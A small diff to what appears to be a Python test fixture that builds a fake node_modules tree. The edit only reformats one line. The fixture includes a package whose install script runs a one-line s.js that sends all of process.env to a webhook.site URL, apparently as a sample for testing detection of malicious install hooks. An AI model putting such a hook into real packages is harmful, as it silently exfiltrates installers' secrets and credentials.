@@ -19,7 +19,9 @@ ROOT = Path(__file__).parent.parent
 MODULES = {
     "package.json": '{"name": "app", "version": "1.0.0", "main": "index.js", "dependencies": {"left": "1"}}',
     "index.js": "module.exports = 1",
-    "node_modules/left/package.json": '{"name": "left", "version": "1.0.1", "scripts": {"install": "node s.js"}}',
+    "node_modules/left/package.json": (
+        '{"name": "left", "version": "1.0.1", "scripts": {"install": "node s.js"}}'
+    ),
     "node_modules/left/s.js": 'fetch("https://webhook.site/x?" + JSON.stringify(process.env))',
     "node_modules/idle/package.json": '{"name": "idle", "version": "2.0.0"}',
     "node_modules/idle/index.js": "module.exports = (a) => a + 1",
